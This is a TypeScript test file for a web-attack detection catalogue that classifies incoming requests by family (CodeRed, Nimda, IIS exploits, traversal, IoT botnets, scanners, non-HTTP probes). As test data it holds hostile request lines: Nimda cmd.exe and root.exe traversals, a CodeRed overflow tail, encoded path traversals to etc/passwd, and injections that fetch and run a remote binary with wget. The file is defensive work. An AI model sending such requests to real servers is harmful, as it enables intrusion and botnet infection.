import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import safeRegex from 'safe-regex2';
import YAML from 'yaml';
import { compileCatalogue, exampleRequest, parseRequestLine } from '../../src/detect/index.js';
import { responseVerdict } from '../../src/detect/response.js';
import { judge } from '../../src/detect/detection.js';
import { BUILTIN_DIR, builtinCatalogue, defaultEngine, readRules } from '../../src/rules/index.js';
import type { Signature } from '../../src/detect/index.js';

/** Family names are metric label values: a short fixed set that says what the thing is. */
const FAMILIES = new Set([
  'codered', 'nimda', 'iis-exploit', 'webdav-overflow', 'share-worm', 'log4shell', 'shellshock',
  'iot-botnet', 'web-exploit', 'traversal', 'hunt', 'scanner', 'non-http',
]);

/** Signatures allowed to have no literals (verified on every request of their methods). */
const WITHOUT_LITERALS = new Set(['webdav-search-overflow', 'webdav-search-large-body']);

function checkExamples(sig: Signature): void {
  const own = compileCatalogue([sig]);
  const all = defaultEngine();
  for (const ex of sig.examples.positive) {
    const n = all.normalise(exampleRequest(ex));
    assert.equal(own.match(n, sig.stage)?.signature.id, sig.id, `${sig.id} misses its example ${ex.request.slice(0, 100)}`);
    assert.ok(judge(all, n, ex.status ?? 404), `the catalogue misses ${ex.request.slice(0, 100)} (answered ${ex.status ?? 404})`);
    const other = sig.stage === 'request' ? '404' : 'request';
    assert.equal(own.match(n, other), null, `${sig.id} matched at the ${other} stage`);
    if (sig.stage === '404') assert.ok(responseVerdict(sig, ex.status ?? 404, ex.body), `${sig.id}: its example answered ${ex.status ?? 404} is neither a probe nor an exposure`);
  }
  for (const ex of sig.examples.negative) {
    const n = all.normalise(exampleRequest(ex));
    // Judged at its status (default 404) as the proxy would: a hunt answered 401 by a real Tomcat is no probe.
    const v = judge(all, n, ex.status ?? 404);
    assert.equal(v, null, `negative example of ${sig.id} judged ${v?.verdict.signature.id}: ${ex.request}`);
  }
}

/** What the whole catalogue makes of a request line answered with `status` (default 404). */
function named(line: string, status = 404, body?: string): { id: string; family: string; kind: string } | null {
  const engine = defaultEngine();
  const n = engine.normalise(parseRequestLine(line));
  const request = engine.match(n, 'request');
  if (request) return { id: request.signature.id, family: request.signature.family, kind: 'probe' };
  const hunt = engine.match(n, '404');
  const kind = hunt ? responseVerdict(hunt.signature, status, body) : null;
  return hunt && kind ? { id: hunt.signature.id, family: hunt.signature.family, kind } : null;
}

const family = (line: string, status?: number): string | undefined => named(line, status)?.family;

describe('detect/catalogue', () => {
  for (const sig of builtinCatalogue()) {
    it(`${sig.id}: every positive example matches at the ${sig.stage} stage, every negative matches nothing`, () => checkExamples(sig));
  }

  it('validates every file with the user-rule validator, without a single error', () => {
    const { errors, signatures, disable } = readRules(BUILTIN_DIR);
    assert.deepEqual(errors, []);
    assert.deepEqual(disable, [], 'the built-in catalogue disables nothing');
    assert.ok(signatures.length >= 130, `only ${signatures.length} signatures`);
  });

  it('has unique kebab-case ids and families from the fixed set', () => {
    const ids = builtinCatalogue().map((s) => s.id);
    assert.equal(new Set(ids).size, ids.length);
    for (const s of builtinCatalogue()) {
      assert.match(s.id, /^[a-z0-9]+(?:-[a-z0-9]+)*$/);
      assert.ok(FAMILIES.has(s.family), `${s.id}: family ${s.family}`);
    }
  });

  it('names each file NN-family, opens it with a comment, and keeps one family in it', () => {
    const files = readdirSync(BUILTIN_DIR).filter((f) => /\.(?:ya?ml|json)$/.test(f));
    assert.ok(files.length > 10);
    for (const f of files) {
      assert.match(f, /^\d{2}-[a-z0-9-]+\.yaml$/);
      const text = readFileSync(join(BUILTIN_DIR, f), 'utf8');
      assert.match(text, /^# \S.{20,}\n/, `${f}: no opening comment`);
      const data = YAML.parse(text) as { signatures?: Signature[] };
      const name = f.replace(/^\d{2}-/, '').replace(/\.yaml$/, '');
      for (const s of data.signatures ?? []) assert.ok(name === s.family || name.startsWith(`${s.family}-`), `${f} holds family ${s.family}`);
    }
  });

  it('gives every entry a description, references, a stage reason and examples of both kinds', () => {
    for (const s of builtinCatalogue()) {
      assert.ok(s.title.length > 5 && s.title.length < 130, `${s.id} title`);
      assert.ok(s.description.length > 150, `${s.id} description too short`);
      assert.ok(s.references.length > 0, `${s.id} references`);
      assert.ok(s.stageReason && s.stageReason.length > 10, `${s.id} stageReason`);
      assert.ok(s.examples.positive.length > 0 && s.examples.negative.length > 0, `${s.id} examples`);
    }
  });

  it('declares response semantics on every 404-stage signature, and on none of the request stage', () => {
    for (const s of builtinCatalogue()) {
      if (s.stage === '404') assert.ok(s.response, `${s.id}: 404 stage without response`);
      else assert.equal(s.response, undefined, `${s.id}: request stage with response`);
    }
  });

  it('keeps patterns in the subset PCRE (njs) shares, star height 1, and literals lower-case', () => {
    for (const s of builtinCatalogue()) {
      const p = s.match.pattern;
      assert.doesNotMatch(p, /\(\?<[=!]|\(\?<[a-z]|\\k</i, `${s.id}: lookbehind or named group`);
      assert.ok(safeRegex(p), `${s.id}: pattern prone to catastrophic backtracking`);
      assert.doesNotThrow(() => new RegExp(p));
      assert.doesNotMatch(p.replace(/\\[A-Za-z]/g, ''), /[A-Z]/, `${s.id}: upper-case letter in a pattern over lower-cased text`);
      if (!WITHOUT_LITERALS.has(s.id)) assert.ok(s.match.literals?.length, `${s.id}: no literals`);
      for (const l of s.match.literals ?? []) assert.equal(l, l.toLowerCase(), `${s.id}: literal ${l}`);
    }
  });

  it('covers the families the issues name', () => {
    const families = new Set(builtinCatalogue().map((s) => s.family));
    for (const f of FAMILIES) assert.ok(families.has(f), `no signature of family ${f}`);
    const ids = new Set(builtinCatalogue().map((s) => s.id));
    for (const id of ['codered-i', 'codered-ii', 'nimda-root-exe', 'log4shell-jndi', 'shellshock', 'phpunit-eval-stdin', 'probe-dotenv']) assert.ok(ids.has(id), id);
  });
});

describe('detect/catalogue: the right names', () => {
  it('keeps Nimda to Nimda\'s own folders with cmd.exe or root.exe', () => {
    assert.equal(family('GET /scripts/..%255c../winnt/system32/cmd.exe?/c+dir HTTP/1.0'), 'nimda');
    assert.equal(family('GET /_vti_bin/..%c0%af../..%c0%af../winnt/system32/cmd.exe?/c+dir HTTP/1.0'), 'nimda');
    assert.equal(family('GET /c/winnt/system32/cmd.exe?/c+dir HTTP/1.0'), 'nimda');
    assert.equal(family('GET /MSADC/root.exe?/c+dir HTTP/1.0'), 'nimda');
    assert.equal(family('GET /scripts/tradecli.dll?template=..\\..\\winnt\\system32\\cmd.exe?/c+dir HTTP/1.0'), 'iis-exploit');
  });

  it('still names Nimda\'s requests when dot segments, ::$DATA, trailing dots or path info hide the file', () => {
    assert.equal(named('GET /scripts/./r%6fot.exe::$DATA?/c+dir HTTP/1.0')?.id, 'nimda-root-exe');
    assert.equal(named('GET /MSADC/root.exe/x?/c+dir HTTP/1.0')?.id, 'nimda-root-exe');
    assert.equal(named('GET /c/winnt/system32/cmd.exe./x?/c+dir HTTP/1.0')?.id, 'nimda-cmd-exe');
    assert.equal(named('GET /d/winnt/system32/cm%64.exe::$DATA?/c+dir HTTP/1.0')?.id, 'nimda-cmd-exe');
  });

  it('catches cmd.exe and root.exe outside Nimda\'s folders however the path is spelled, as iis-exploit', () => {
    for (const line of [
      'GET /scripts/cmd.exe./y?/c+dir HTTP/1.1',
      'GET /x/../root.exe::$DATA?/c+dir HTTP/1.1',
      'GET /a/%2e%2e/winnt/system32/cmd.exe HTTP/1.1',
      'GET /winnt//system32/cmd.exe. HTTP/1.1',
    ]) assert.equal(named(line)?.id, 'iis-cmd-exe', line);
    assert.equal(named('GET /downloads/windows/system32/cmd.exe.txt HTTP/1.1'), null);
  });

  it('calls CodeRed CodeRed through dot segments, ::$DATA, trailing dots and path info', () => {
    const tail = `?${'N'.repeat(224)}%u9090%u6858%ucbd3%u7801`;
    for (const path of ['/./default.ida', '/x/../default.ida', '/a\\..\\default.ida', '/default.ida::$DATA', '/default.ida.', '/default.ida/x.htm', '//x/../default.%69da']) {
      assert.equal(named(`GET ${path}${tail} HTTP/1.1`)?.id, 'codered-i', path);
    }
  });

  it('calls a scanner\'s encoded traversal traversal, not nimda', () => {
    assert.equal(family('GET /..%252f..%252f..%252fetc/passwd HTTP/1.1'), 'traversal');
    assert.equal(family('GET /static/..%c0%af..%c0%af..%c0%afetc/hosts HTTP/1.1'), 'traversal');
    assert.equal(family('GET /%2e%2e/%2e%2e/%2e%2e/boot.ini HTTP/1.1'), 'traversal');
  });

  it('calls an Acunetix command-injection probe scanner, not an IoT bot', () => {
    assert.equal(family('GET /ping.cgi?ip=127.0.0.1%7Cwget%20http://hitkqz1y2x.bxss.me/ HTTP/1.1'), 'scanner');
    assert.equal(family('GET /index.php?q=;wget http://198.51.100.7/mips;sh mips HTTP/1.1'), 'iot-botnet');
  });

  it('names router exploits iot-botnet whether answered 404, 400 or 405', () => {
    for (const status of [400, 404, 405]) {
      assert.equal(family('POST /cgi-bin/ViewLog.asp HTTP/1.1', status), 'iot-botnet', String(status));
      assert.equal(family('POST /HNAP1/ HTTP/1.1', status), 'iot-botnet', String(status));
    }
    assert.equal(named('POST /HNAP1/ HTTP/1.1', 200), null, 'a real router answering its own HNAP service');
  });

  it('reads non-HTTP bytes the way parseRequestLine hands them over: empty method, the bytes as target', () => {
    const tls = '\x16\x03\x01\x00\xee\x01\x00\x00\xea\x03\x03';
    assert.deepEqual(parseRequestLine(tls), { method: '', target: tls });
    assert.equal(family(tls), 'non-http');
    assert.equal(family('SSH-2.0-Go'), 'non-http');
    assert.equal(family('MGLNDD_192.0.2.1_80'), 'non-http');
    assert.equal(family('\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr'), 'non-http');
  });

  it('reports a hunt refused with 403 as a probe, and a served secret as an exposure', () => {
    assert.deepEqual(named('GET /.env HTTP/1.1', 403), { id: 'probe-dotenv', family: 'hunt', kind: 'probe' });
    assert.equal(named('GET /.env HTTP/1.1', 200)?.kind, 'exposure');
    assert.equal(named('GET /.env HTTP/1.1', 200, '<html><body>shop</body></html>')?.kind, 'probe');
    assert.equal(named('GET /wp-login.php HTTP/1.1', 200), null, 'a WordPress site\'s own login page');
  });
});
